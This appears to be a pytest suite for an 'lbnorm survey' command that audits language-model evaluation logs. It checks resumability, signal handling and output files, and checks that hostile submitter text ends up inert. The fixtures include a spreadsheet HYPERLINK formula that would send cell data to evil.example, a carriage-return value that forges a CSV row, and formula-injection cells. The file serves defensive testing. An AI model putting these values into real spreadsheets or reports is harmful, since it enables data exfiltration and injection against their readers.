"""`lbnorm survey` on a seeded corpus with planted faults: the table finds exactly those, however it ran.

The corpus (tests/support/survey_corpus.py) is a few hundred tiny lm-eval runs;
each planted fault says which rules its row must show, every other row
must show none. The survey is run through the real CLI in a subprocess,
on the real local process pool; a survey killed with SIGKILL and resumed,
and a pool worker killed mid-survey, must give the same table.
"""

from __future__ import annotations

import csv
import json
import multiprocessing
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from support import harness_logs as hl
from support.survey_corpus import (
    MANIFEST,
    assert_finds_exactly_the_planted_faults,
    make_corpus,
    tamper_drop_f1_keeping_size_and_mtime,
)

from validator.io.documents import DocumentError
from validator.io.limits import Limits
from validator.io.sample_logs import read_records
from validator.survey import batches
from validator.survey.engine import SurveyOutcome, survey
from validator.survey.journal import JOURNAL_NAME, SETTINGS_NAME, Journal, JournalExists, rows_text
from validator.survey.layout import runs_in
from validator.survey.local_pool import LocalPool
from validator.survey.records import stream_records
from validator.survey.rows import blank_row
from validator.survey.sources import plan
from validator.survey.stores import FileRef
from validator.survey.tables import read_jsonl
from validator.survey.work import run_batch

RUNS = 200


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> tuple[Path, dict]:
    root = tmp_path_factory.mktemp("corpus")
    return root, make_corpus(root, runs=RUNS, seed=7)


@pytest.fixture(scope="module")
def one_go(corpus, tmp_path_factory) -> Path:
    """The reference: the whole corpus surveyed in one go on a local pool of two processes."""
    out = tmp_path_factory.mktemp("one-go")
    result = lbnorm("survey", str(corpus[0]), "--out", str(out), "--workers", "2")
    assert result.returncode == 1, result.stderr  # the planted faults are errors
    out.with_name(out.name + ".stdout").write_text(result.stdout, encoding="utf-8")
    return out


def lbnorm(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "validator", *args], capture_output=True, text=True, timeout=120
    )


def survey_published(source, out) -> subprocess.CompletedProcess:
    """`lbnorm survey SOURCE --out OUT` with the published scores read as percentages, no plots."""
    return lbnorm(
        "survey", str(source), "--out", str(out), "--published-scale", "100", "--no-plots"
    )


def test_the_table_finds_exactly_the_planted_faults(corpus, one_go):
    rows = read_jsonl(one_go / "survey.jsonl")
    assert_finds_exactly_the_planted_faults(rows, corpus[1])
    faults = {want["fault"] for want in corpus[1].values()}
    assert faults >= {
        "glued",
        "decimal",
        "tampered",
        "missing",
        "cut_log",
        "no_log",
        "published",
        None,
    }


def test_drop_columns_show_the_deep_dive_rates(corpus, one_go):
    rows = {(row["run"], row["task"]): row for row in read_jsonl(one_go / "survey.jsonl")}
    for key, want in corpus[1].items():
        row = rows[key]
        if key[1] != "drop":
            assert row["drop_n"] is None
            continue
        assert row["drop_n"] == 8
        assert (row["rate_W"] > 0) == (want["fault"] == "glued")
        assert (row["rate_D"] > 0) == (want["fault"] == "decimal")
        if want["fault"] == "glued":  # the newline split recovers the glued gold number
            assert row["f1_nl"] == pytest.approx(row["f1_recomputed"] + 1 / 8)
        if want["fault"] == "tampered":
            assert row["reported"] == pytest.approx(row["recomputed"] + 0.05)
            assert row["max_abs_diff"] == pytest.approx(0.05)
        else:
            assert row["max_abs_diff"] == 0.0


def test_a_manifest_compares_published_scores(corpus, tmp_path):
    result = lbnorm(
        "survey",
        str(corpus[0] / MANIFEST),
        "--out",
        str(tmp_path),
        "--workers",
        "2",
        "--published-scale",
        "100",
        "--no-plots",
        "--progress",
    )
    assert result.returncode == 1, result.stderr
    # Off a terminal, progress is a plain line at every tenth of the work (and every 30 s).
    final = (
        r"lbnorm survey: 100% \([\d,]+/[\d,]+ units, .+ of .+\), elapsed \d+:\d\d:\d\d, ETA 0:00:00"
    )
    assert re.search(final, result.stderr), result.stderr
    rows = read_jsonl(tmp_path / "survey.jsonl")
    assert_finds_exactly_the_planted_faults(rows, corpus[1], published=True)
    assert all(row["model"] == row["run"].split("/")[0].replace("__", "/") for row in rows)
    unreproduced = sum(1 for want in corpus[1].values() if want["reproduced"] is False)
    assert f"{unreproduced:,} published scores not reproduced" in result.stdout
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert f"{unreproduced:,} published numbers are not reproduced by their logs" in summary


def _one_run_manifest(
    tmp_path: Path, columns: dict[str, str], logs: bool = True
) -> tuple[Path, dict]:
    """One clean run and a manifest publishing `columns` ({"drop/f1": "<value or {f1}/{em}>"}) for it."""
    root = tmp_path / "runs"
    make_corpus(root, runs=1, seed=3, fault_rate=0)
    results = next(root.glob("*/results_*.json"))
    if not logs:
        for log in results.parent.glob("samples_*.jsonl"):
            log.unlink()
    scores = json.loads(results.read_text(encoding="utf-8"))["results"]
    values = {"f1": 100 * scores["drop"]["f1,none"], "em": 100 * scores["drop"]["em,none"]}
    manifest = root / "published.csv"
    cells = [
        value.format(**{k: f"{v:.2f}" for k, v in values.items()}) for value in columns.values()
    ]
    manifest.write_text(
        f"results,{','.join(columns)}\n{results.relative_to(root).as_posix()},{','.join(cells)}\n",
        encoding="utf-8",
    )
    return manifest, values


# A model name is the submitter's text: a spreadsheet formula, HTML, a link and a ping in one.
HOSTILE_MODEL = (
    '=HYPERLINK("https://evil.example/?"&A1,"open") <img src=x> @octocat [x](https://evil.example) '
    "a|b x_www.evil.example ~~struck~~"
)
# A task name is too; with a lone CR in it, a CSV written with "\n" line ends left the field unquoted, and a
# spreadsheet (and Python's csv) took the CR for the end of the row: "=1+2" began a forged row.
HOSTILE_TASK = "t\r=1+2"


def test_a_submitters_model_name_is_inert_in_the_csv_and_the_summary(tmp_path):
    """survey.csv: a text cell a spreadsheet would run starts with an apostrophe; survey.jsonl keeps it exact.
    summary.md: the cell holds no HTML, link, image or ping (it is read on GitHub)."""
    manifest, _ = _one_run_manifest(tmp_path, {"drop/f1": "99.00"})
    results = next((tmp_path / "runs").glob("*/results_*.json"))
    data = json.loads(results.read_text(encoding="utf-8"))
    data["model_name"] = HOSTILE_MODEL
    data["results"][HOSTILE_TASK] = {"alias": "t", "acc,none": 0.5}
    results.write_text(json.dumps(data), encoding="utf-8")
    result = survey_published(manifest, tmp_path / "out")
    assert result.returncode == 1 and "1 published scores not reproduced" in result.stdout, (
        result.stdout
    )
    rows = read_jsonl(tmp_path / "out" / "survey.jsonl")
    # the carriage return is shown as text in every table (safe_text.table_cell), the formula kept inert
    assert {row["model"] for row in rows} == {HOSTILE_MODEL} and "t\\r=1+2" in {
        row["task"] for row in rows
    }
    with open(tmp_path / "out" / "survey.csv", encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [(cells["run"], cells["task"]) for cells in table] == [
        (row["run"], row["task"]) for row in rows
    ]
    assert {cells["model"] for cells in table} == {"'" + HOSTILE_MODEL}
    summary = (tmp_path / "out" / "summary.md").read_text(encoding="utf-8")
    lines = [line for line in summary.splitlines() if "HYPERLINK" in line]
    assert len(lines) == 2  # the published number not reproduced, and the run's DROP numbers
    for line in lines:
        for bait in ("<img", "https://", "@octocat", "[x](", "a|b", "www.evil", "~~"):
            assert bait not in line
        assert "a\\|b" in line  # the name's '|' does not end its cell


@pytest.mark.parametrize(
    "text, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u200b\u00a0@x", "'\u200b\u00a0@x"),
        ("\tmodel", "'\tmodel"),
        ("\x00", "'\x00"),
        ("org/model-7b", "org/model-7b"),
        ("a=b", "a=b"),
        (" model", " model"),
        ("", ""),
    ],
)
def test_a_spreadsheet_runs_no_text_cell_of_the_csv(text, cell):
    from validator.io.safe_text import spreadsheet_cell

    assert spreadsheet_cell(text) == cell


def test_every_published_metric_of_a_task_is_compared_none_dropped(tmp_path):
    """A manifest publishing a task's f1 and em: a wrong f1 beside a right em is not reproduced."""
    manifest, values = _one_run_manifest(tmp_path, {"drop/f1": "99.00", "drop/em": "{em}"})
    result = survey_published(manifest, tmp_path / "out")
    assert result.returncode == 1 and "1 published scores not reproduced" in result.stdout, (
        result.stdout
    )
    [row] = [row for row in read_jsonl(tmp_path / "out" / "survey.jsonl") if row["task"] == "drop"]
    assert (row["published_metric"], row["published"], row["reproduced"]) == (
        "f1,none",
        99.0,
        False,
    )
    assert (
        row["metrics"]["f1,none"]["reproduced"] is False
        and row["metrics"]["em,none"]["reproduced"] is True
    )
    assert row["metric"] == "f1,none"  # the headline is the published metric shown
    manifest, _ = _one_run_manifest(tmp_path / "acc", {"drop/f1": "{f1}", "drop/acc": "50"})
    survey_published(manifest, tmp_path / "acc" / "out")
    [row] = [
        row
        for row in read_jsonl(tmp_path / "acc" / "out" / "survey.jsonl")
        if row["task"] == "drop"
    ]
    assert row["reproduced"] is False and row["published_metric"] == "acc,none"
    assert "the results file has no metric acc,none for drop" in row["error"]
    summary = (tmp_path / "out" / "summary.md").read_text(encoding="utf-8")
    assert "| f1,none | 99.0000 |" in summary and "| em,none |" not in summary


def test_published_scores_of_an_unreadable_run_stay_in_the_table_not_reproduced(tmp_path):
    manifest, _ = _one_run_manifest(tmp_path, {"drop/f1": "{f1}", "hellaswag/acc": "50"})
    results = next((tmp_path / "runs").glob("*/results_*.json"))
    results.write_text("{not json", encoding="utf-8")
    result = survey_published(manifest, tmp_path / "out")
    assert result.returncode == 1 and "2 published scores not reproduced" in result.stdout, (
        result.stdout
    )
    rows = {row["task"]: row for row in read_jsonl(tmp_path / "out" / "survey.jsonl")}
    assert [
        (task, rows[task]["status"], rows[task]["reproduced"]) for task in ("drop", "hellaswag")
    ] == [("drop", "not audited", False), ("hellaswag", "not audited", False)]
    assert rows["hellaswag"]["published"] == 50.0 and rows[""]["status"] == "unreadable results"


def test_published_tasks_of_a_failed_run_unit_stay_in_the_table_not_reproduced(
    tmp_path, monkeypatch
):
    """The run's own unit judges published tasks without a log; when it fails, they are still rows."""
    from validator.io.limits import DEFAULT_LIMITS
    from validator.survey import work
    from validator.survey.sources import plan

    manifest, _ = _one_run_manifest(tmp_path, {"drop/f1": "{f1}", "hellaswag/acc": "50"})
    [run_unit] = [unit for unit in plan([str(manifest)], DEFAULT_LIMITS, 100) if unit.log is None]

    def broken(*_):
        raise RuntimeError("a bug")

    monkeypatch.setattr(work, "_run_rows", broken)
    rows = {row["task"]: row for row in json.loads(work.run_unit(run_unit))}
    assert (
        rows[""]["status"] == "failed"
        and "internal error: RuntimeError: a bug" in rows[""]["error"]
    )
    assert (
        rows["hellaswag"]["status"],
        rows["hellaswag"]["published"],
        rows["hellaswag"]["reproduced"],
    ) == ("not audited", 50.0, False)
    assert "drop" not in rows  # its log's unit judges it


@pytest.mark.parametrize(
    "scale, hint",
    [
        ([], "are above 1, but --published-scale is 1 (fractions)"),
        (["--published-scale", "100"], None),
    ],
)
def test_percents_read_as_fractions_get_a_hint(tmp_path, scale, hint):
    manifest, _ = _one_run_manifest(tmp_path, {"drop/f1": "{f1}"})
    result = lbnorm("survey", str(manifest), "--out", str(tmp_path / "out"), "--no-plots", *scale)
    if (
        hint
    ):  # the comparison stands as made: not reproduced, exit 1; the note says what was likely meant
        assert (
            result.returncode == 1
            and hint in result.stderr
            and "--published-scale 100" in result.stderr
        )
    else:
        assert result.returncode == 0 and "note:" not in result.stderr, result.stderr


def test_the_scale_hint_fires_only_when_every_published_score_says_the_other_scale():
    from validator.survey.published import scale_hint

    def rows(*values):
        return [{"metrics": {f"m{i},none": {"published": value} for i, value in enumerate(values)}}]

    assert "run again with --published-scale 100" in scale_hint(rows(71.2, 40.5), 1)
    assert "run again without --published-scale" in scale_hint(rows(0.712, 0.405), 100)
    assert scale_hint(rows(71.2, 0.5), 1) is None and scale_hint(rows(0.7, 0.4), 1) is None
    assert (
        scale_hint(rows(71.2), 100) is None
        and scale_hint(rows(), 1) is None
        and scale_hint(rows(0.0), 100) is None
    )
    # a 0 is a score in either scale: two of them must not hide the hint on 258 percents
    assert scale_hint(rows(*[60.5] * 258, 0.0, 0.0), 1).startswith(
        "all 258 published scores other than 0 are"
    )
    assert scale_hint(rows(0.712, 0.0), 100).startswith(
        "all 1 published scores other than 0 are at most 1"
    )
    # percents below 1 (a small model's MATH) among many above: still percents; half and half is no evidence
    assert scale_hint(rows(*[60.5] * 19, 0.45), 1).startswith(
        "19 of the 20 published scores other than 0"
    )
    assert scale_hint(rows(*[60.5] * 5, *[0.45] * 5), 1) is None


@pytest.mark.parametrize("logs", [True, False])
def test_a_published_task_the_run_lacks_is_a_row_not_reproduced(tmp_path, logs):
    manifest, _ = _one_run_manifest(tmp_path, {"drop/f1": "{f1}", "hellaswag/acc": "50"}, logs=logs)
    result = survey_published(manifest, tmp_path / "out")
    assert result.returncode == 1, result.stdout
    rows = {row["task"]: row for row in read_jsonl(tmp_path / "out" / "survey.jsonl")}
    missing = rows["hellaswag"]
    assert (missing["status"], missing["published"], missing["reproduced"]) == (
        "not in results",
        50.0,
        False,
    )
    assert "has no task hellaswag" in missing["error"]
    # with its log, drop/f1 is reproduced; with no log at all it cannot be, and says so in a row of its own
    assert (rows["drop"]["status"], rows["drop"]["reproduced"]) == (
        ("ok", True) if logs else ("no log", False)
    )
    expected = "1 published scores not reproduced" if logs else "2 published scores not reproduced"
    assert expected in result.stdout


def test_csv_and_parquet_hold_the_same_rows_as_json_lines(one_go):
    rows = read_jsonl(one_go / "survey.jsonl")
    with open(one_go / "survey.csv", encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [(r["run"], r["task"], r["errors"]) for r in table] == [
        (r["run"], r["task"], str(r["errors"])) for r in rows
    ]
    assert [json.loads(r["rules"]) for r in table] == [r["rules"] for r in rows]
    assert [float(r["f1_nl"]) if r["f1_nl"] else None for r in table] == [r["f1_nl"] for r in rows]
    pyarrow = pytest.importorskip(
        "pyarrow.parquet", reason="survey.parquet needs the `survey` extra (pyarrow)"
    )
    parquet = pyarrow.read_table(one_go / "survey.parquet").to_pylist()
    assert [(r["run"], r["task"], r["errors"], r["reproduced"]) for r in parquet] == [
        (r["run"], r["task"], r["errors"], r["reproduced"]) for r in rows
    ]


def test_every_file_the_survey_writes_is_named_on_its_output(one_go):
    """The output lists every file the survey wrote, all nine of a survey with plots."""
    written = {str(path) for path in one_go.rglob("*") if path.is_file()} - {
        str(one_go / JOURNAL_NAME),
        str(one_go / SETTINGS_NAME),
    }
    named = [
        line.removeprefix("  wrote ")
        for line in one_go.with_name(one_go.name + ".stdout")
        .read_text(encoding="utf-8")
        .splitlines()
        if line.startswith("  wrote ")
    ]
    assert sorted(named) == sorted(written) and len(named) >= 5


def test_the_summary_is_written_in_markdown_and_html(one_go):
    markdown = (one_go / "summary.md").read_text(encoding="utf-8")
    page = (one_go / "summary.html").read_text(encoding="utf-8")
    for title in (
        "Findings by rule",
        "Published numbers the logs do not reproduce",
        "Reported vs re-derived",
        "DROP",
        "Units not audited",
    ):
        assert f"## {title}" in markdown and f"<h2>{title}</h2>" in page
    assert "| [LB710](https://github.com/" in markdown  # the id links to the rule's documentation
    assert "sample-log-checks.md#lb710-drop-glued-number) | drop-glued-number |" in markdown
    assert (
        "<script>" in page and "<script src" not in page
    )  # sortable and filterable, self-contained
    if (one_go / "plots").is_dir():
        assert (
            page.count("data:image/png;base64,") == len(list((one_go / "plots").glob("*.png"))) >= 3
        )


def test_a_killed_survey_resumes_to_the_same_table(corpus, one_go, tmp_path):
    command = [
        sys.executable,
        "-m",
        "validator",
        "survey",
        str(corpus[0]),
        "--out",
        str(tmp_path),
        "--workers",
        "1",
        "--no-plots",
    ]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    journal = tmp_path / JOURNAL_NAME
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and (not journal.exists() or journal.stat().st_size < 20_000):
        time.sleep(0.005)
    process.send_signal(signal.SIGKILL)
    assert process.wait(timeout=30) == -signal.SIGKILL
    assert not (tmp_path / "survey.jsonl").exists(), "killed before the end"
    with open(journal, "ab") as handle:  # as if killed in the middle of a line
        handle.write(b'{"unit": "cut off')
    done_before = len(journal.read_bytes().splitlines()) - 1
    result = lbnorm(
        "survey", str(corpus[0]), "--out", str(tmp_path), "--workers", "2", "--resume", "--no-plots"
    )
    assert result.returncode == 1, result.stderr
    assert f"({done_before:,} resumed)" in result.stdout
    units = int(result.stdout.split(" units (", 1)[0])
    assert (
        f"lbnorm survey: {units - done_before:,} of {units:,} units to run ({done_before:,} already in "
        f"{tmp_path}), on local pool of 2 processes" in result.stderr
    )
    assert (tmp_path / "survey.jsonl").read_bytes() == (one_go / "survey.jsonl").read_bytes()
    assert (tmp_path / "survey.csv").read_bytes() == (one_go / "survey.csv").read_bytes()


@pytest.mark.parametrize("stop, code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_survey_stopped_with_ctrl_c_or_sigterm_says_how_to_resume_and_resumes(
    corpus, one_go, tmp_path, stop, code
):
    """Ctrl-C and SIGTERM (a CI job cancelled) stop the survey cleanly: not exit 2 (a usage error) with only
    'lbnorm: aborted', nor killed where it stands with a leaked-semaphore warning."""
    command = [
        sys.executable,
        "-m",
        "validator",
        "survey",
        str(corpus[0]),
        "--out",
        str(tmp_path),
        "--workers",
        "1",
        "--no-plots",
    ]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    journal = tmp_path / JOURNAL_NAME
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and (not journal.exists() or journal.stat().st_size < 20_000):
        time.sleep(0.005)
    process.send_signal(stop)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == code, stderr
    assert stderr.endswith(
        f"\nlbnorm survey: interrupted; the units finished so far are in {journal}: run the same "
        "command with --resume to go on\n"
    ), stderr
    assert not (tmp_path / "survey.jsonl").exists(), "stopped before the end"
    result = lbnorm(
        "survey", str(corpus[0]), "--out", str(tmp_path), "--workers", "2", "--resume", "--no-plots"
    )
    assert result.returncode == 1, result.stderr
    assert (tmp_path / "survey.jsonl").read_bytes() == (one_go / "survey.jsonl").read_bytes()


def _stopped_survey(tmp_path, monkeypatch, module, name, source):
    """`lbnorm survey` in this process, with a Ctrl-C (a real SIGINT to this process) while `module.name` runs."""
    from click.testing import CliRunner

    from validator.cli import cli

    original = getattr(module, name)

    def interrupted(*args, **kwargs):
        os.kill(os.getpid(), signal.SIGINT)
        return original(*args, **kwargs)

    monkeypatch.setattr(module, name, interrupted)
    return CliRunner().invoke(
        cli, ["survey", str(source), "--out", str(tmp_path / "out"), "--workers", "1"]
    )


def test_a_survey_stopped_while_it_writes_its_tables_leaves_none(corpus, tmp_path, monkeypatch):
    """Stopped while its summaries are written, a survey leaves no survey.csv without its survey.jsonl: a table
    must be a survey's whole result or not be there."""
    from validator.survey import summary

    result = _stopped_survey(tmp_path, monkeypatch, summary, "write_summaries", corpus[0])
    journal = tmp_path / "out" / JOURNAL_NAME
    assert result.exit_code == 130, result.output
    assert result.output.endswith(
        f"lbnorm survey: interrupted; the units finished so far are in {journal}: run the "
        "same command with --resume to go on\n"
    ), result.output
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == [
        SETTINGS_NAME,
        JOURNAL_NAME,
    ]


def test_a_survey_stopped_before_any_unit_ran_says_nothing_was_written(
    corpus, tmp_path, monkeypatch
):
    from validator.survey import engine

    result = _stopped_survey(tmp_path, monkeypatch, engine, "plan", corpus[0])
    assert result.exit_code == 130, result.output
    assert result.output.endswith(
        "lbnorm survey: interrupted before any unit ran; nothing was written\n"
    )
    assert not (tmp_path / "out").exists()


def test_a_ctrl_c_python_swallowed_as_the_pool_forked_still_stops_the_survey(
    corpus, tmp_path, monkeypatch
):
    """As the pool forks a worker, a signal's exception can land in an at-fork handler, where Python drops it."""
    from click.testing import CliRunner

    from validator.cli import cli
    from validator.survey import local_pool

    forked = local_pool._Lane._start

    def start(lane):
        try:
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(1)
        except KeyboardInterrupt:
            pass  # dropped, as "Exception ignored in: <function _releaseLock ...>"
        forked(lane)

    monkeypatch.setattr(local_pool._Lane, "_start", start)
    monkeypatch.setattr(
        batches, "MIN_TASK_BYTES", 1
    )  # 8 tasks: it stops after the first, not at the end
    result = CliRunner().invoke(
        cli, ["survey", str(corpus[0]), "--out", str(tmp_path / "out"), "--workers", "1"]
    )
    assert result.exit_code == 130, result.output
    assert "run the same command with --resume to go on" in result.output
    from validator.survey.sources import plan

    units = len(plan([str(corpus[0])], Limits(), 100_000))
    assert (
        len((tmp_path / "out" / JOURNAL_NAME).read_text(encoding="utf-8").splitlines())
        <= units // 4
    )


def test_a_stop_whose_exception_python_swallowed_is_raised_where_the_command_looks(monkeypatch):
    """A signal that lands in a garbage-collector callback, an at-fork handler or a __del__ has its exception
    printed as 'Exception ignored in ...' and dropped, and the survey would run to its end. The stop is
    remembered and raised again, and the dropped exception is not printed; others are."""
    from validator.cli.stop_signals import Stopped, StopSignals

    class Dropped:
        def __init__(self, error=None):
            self.error = error

        def __del__(self):
            if self.error:
                raise self.error
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(1)  # the handler raises here, inside __del__, where Python drops it

    printed = []
    monkeypatch.setattr(sys, "unraisablehook", printed.append)  # what Python would print
    with StopSignals() as stops:
        stops.check()  # nothing asked yet
        Dropped()
        Dropped(ValueError("a bug elsewhere"))
        with pytest.raises(Stopped) as again:
            stops.check()
    assert again.value.exit_code == 143
    assert [type(unraisable.exc_value) for unraisable in printed] == [ValueError]
    assert (
        signal.getsignal(signal.SIGTERM) is signal.SIG_DFL and sys.unraisablehook == printed.append
    )


def test_a_stop_in_a_block_that_must_finish_waits_for_it_and_an_ignored_ctrl_c_stays_ignored(
    monkeypatch,
):
    """A second Ctrl-C does not cut the local cluster's close short (distributed's exit hook would then wait
    10 s), and a survey started ignoring Ctrl-C (a background job) is not stopped by one."""
    from validator.cli.stop_signals import Stopped, StopSignals

    monkeypatch.setattr(
        signal,
        "getsignal",
        lambda signum: signal.SIG_IGN if signum == signal.SIGINT else signal.SIG_DFL,
    )
    calls = []
    monkeypatch.setattr(
        signal, "signal", lambda signum, handler: calls.append(signum) or signal.SIG_DFL
    )
    with StopSignals():
        pass
    assert signal.SIGINT not in calls and signal.SIGTERM in calls
    monkeypatch.undo()
    with StopSignals() as stops:
        with stops.deferred():
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(0.5)  # the handler runs, and only remembers
            finished = True
        assert finished
        with pytest.raises(Stopped):
            stops.check()


def test_a_log_no_results_file_claims_runs_again_on_resume_when_its_batch_failed(
    tmp_path, monkeypatch
):
    """--resume does not keep such a log's journaled 'failed' row for good: the log runs again."""
    from validator.survey import engine

    root = tmp_path / "runs"
    make_corpus(root, runs=1, seed=3, fault_rate=0)
    _stray_log("samples_drop_2023-01-01T00-00-00.000000.jsonl")(
        root, next(root.glob("*/results_*.json"))
    )

    def fails(batch, settings):
        raise RuntimeError("a task that failed")

    monkeypatch.setattr(engine, "run_batch", fails)
    rows = survey([str(root)], tmp_path / "out", LocalPool(1)).rows
    assert {row["status"] for row in rows} == {"failed"}
    monkeypatch.undo()
    rows = survey([str(root)], tmp_path / "out", LocalPool(1), resume=True).rows
    assert [
        row["status"] for row in rows if row["log"].endswith("2023-01-01T00-00-00.000000.jsonl")
    ] == ["unplaced log"]


def test_a_survey_and_audit_take_the_same_logs_for_a_legacy_results_file():
    """The survey claims a samples_ log beside a legacy results.json, as audit takes every .jsonl, so the
    repository's own LB723 example keeps its finding in a survey."""
    case = (
        Path(__file__).parents[1] / "examples" / "negative" / "LB723_function_prompt_shots_hidden"
    )
    rows = survey([str(case)], Path(tempfile.mkdtemp()) / "out", LocalPool(1)).rows
    assert [(row["task"], row["rules"]) for row in rows if row["log"]] == [
        ("mmlu_pro_copy", {"LB723": 1})
    ]


def test_a_resume_audits_again_a_file_edited_with_its_size_and_mtime_kept(tmp_path):
    """--resume keeps a unit's rows only while its files are the ones audited. A local file was known by its
    size and mtime alone, a same-size edit with the mtime put back would resume as the old, clean rows:
    the mtime is the submitter's (tar, cp -p and rsync -a keep it; utime sets it)."""
    root = tmp_path / "runs"
    make_corpus(root, runs=2, seed=3, fault_rate=0)
    first = lbnorm(
        "survey", str(root), "--out", str(tmp_path / "out"), "--no-plots", "--workers", "1"
    )
    assert first.returncode == 0, first.stdout + first.stderr
    results = sorted(root.glob("*/results_*.json"))[0]
    reported = tamper_drop_f1_keeping_size_and_mtime(results)
    again = lbnorm(
        "survey",
        str(root),
        "--out",
        str(tmp_path / "out"),
        "--no-plots",
        "--workers",
        "1",
        "--resume",
    )
    assert again.returncode == 1, again.stdout + again.stderr
    assert (
        "3 of 6 units to run (3 already in" in again.stderr
    )  # the edited run's three units, not the other's
    row = next(
        row
        for row in read_jsonl(tmp_path / "out" / "survey.jsonl")
        if row["task"] == "drop" and row["run"] == results.relative_to(root).as_posix()
    )
    assert row["rules"] == {"LB709": 1} and row["reported"] != reported


def test_a_survey_killed_with_sigkill_leaves_no_pool_worker_behind(corpus, tmp_path):
    """SIGKILL gives the survey no chance to stop its pool: its workers must notice on their own and exit."""
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "validator",
            "survey",
            str(corpus[0]),
            "--out",
            str(tmp_path),
            "--workers",
            "2",
            "--no-plots",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    children: list[int] = []
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(children) < 2 and process.poll() is None:
        children = _children(process.pid)
        time.sleep(0.002)
    assert len(children) == 2, "the pool's workers were not seen"
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and any(_alive(pid) for pid in children):
        time.sleep(0.05)
    assert not [pid for pid in children if _alive(pid)], "pool workers outlived the killed survey"


def _children(pid: int) -> list[int]:
    try:
        return [
            int(child) for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
        ]
    except OSError:
        return []


def _alive(pid: int) -> bool:
    """Running, not a zombie waiting for whoever adopted it to reap it."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False


def test_a_pool_worker_killed_mid_survey_is_replaced(corpus, one_go, tmp_path, monkeypatch):
    monkeypatch.setattr(
        batches, "MIN_TASK_BYTES", 1
    )  # 8 tasks a worker, so the kill finds tasks in flight
    killed = []

    def kill_a_worker(done: int) -> None:
        if done == 50 and not killed:
            worker = multiprocessing.active_children()[0]
            os.kill(worker.pid, signal.SIGKILL)
            killed.append(worker.pid)

    outcome = survey([str(corpus[0])], tmp_path, LocalPool(2), on_unit=kill_a_worker)
    assert killed
    assert outcome.rows == read_jsonl(one_go / "survey.jsonl")


def test_a_survey_says_how_many_bytes_its_units_read_and_how_fast(tmp_path):
    root = tmp_path / "corpus"
    make_corpus(root, runs=6, seed=11)
    files = [*root.rglob("results_*.json"), *root.rglob("samples_*.jsonl")]
    outcome = survey([str(root)], tmp_path / "out", LocalPool(1))
    assert outcome.bytes_run == sum(path.stat().st_size for path in files)
    assert outcome.rate() == (
        f", {outcome.bytes_run / 1e6:,.1f} MB in {outcome.seconds:,.2f} s "
        f"({outcome.bytes_run / 1e6 / outcome.seconds:,.1f} MB/s)"
    )
    again = survey([str(root)], tmp_path / "out", LocalPool(1), resume=True)
    assert again.skipped == again.units and again.bytes_run == 0  # resumed units are not read
    unsized = SurveyOutcome(
        [], 3, 0, 1.5, None
    )  # a store that lists no sizes (HTTP directory pages)
    assert unsized.rate() == " in 1.50 s"


def test_a_journal_line_is_the_json_of_its_unit_and_rows_written_by_the_worker(tmp_path):
    rows = [
        {
            **blank_row("ö/results.json", "m", "drop", "l"),
            "metrics": {"f1,none": {"reported": 0.25, "from_samples": None, "recomputed": 0.25}},
        },
        {**blank_row("x", "", "", ""), "error": "line\nbreak \u2028", "reproduced": None},
    ]
    journal = Journal(tmp_path, resume=False)
    journal.record([("k" * 64, rows_text(rows)), ("m" * 64, rows_text(rows[1:]))])
    refused = journal.record(
        [("n" * 64, rows_text(rows)), ("j" * 64, "[{not json")]
    )  # only the JSON is written
    journal.close()
    assert [key for key, _ in refused] == ["j" * 64] and "j" * 64 not in journal.done
    assert (tmp_path / JOURNAL_NAME).read_text(encoding="utf-8") == "".join(
        json.dumps(
            {"unit": key, "rows": unit_rows}, ensure_ascii=False, allow_nan=False, sort_keys=True
        )
        + "\n"
        for key, unit_rows in (("k" * 64, rows), ("m" * 64, rows[1:]), ("n" * 64, rows))
    )
    assert journal.done["k" * 64] == json.loads(json.dumps(rows, sort_keys=True))


@pytest.mark.parametrize(
    "damage, note",
    [
        (
            lambda lines: lines[:-1] + [lines[-1][:-30]],
            None,
        ),  # what a kill leaves: the last line cut off
        (
            lambda lines: lines[:1] + [b"{damaged\n"] + lines[1:],
            "line 2 is damaged (not JSON); it and the 2 lines after it were dropped and their units run again",
        ),
    ],
    ids=["last line cut off", "a damaged line in the middle"],
)
def test_a_resumed_journal_says_when_it_dropped_whole_lines(tmp_path, damage, note):
    journal = Journal(tmp_path, resume=False)
    journal.record([(key * 64, rows_text([blank_row(key, "", "", "")])) for key in "abc"])
    journal.close()
    lines = (tmp_path / JOURNAL_NAME).read_bytes().splitlines(keepends=True)
    (tmp_path / JOURNAL_NAME).write_bytes(b"".join(damage(lines)))
    again = Journal(tmp_path, resume=True)
    again.close()
    assert again.note == (None if note is None else f"{JOURNAL_NAME}: {note}")
    assert list(again.done) == (["a" * 64, "b" * 64] if note is None else ["a" * 64])


def test_two_surveys_cannot_write_one_journal_at_once(tmp_path):
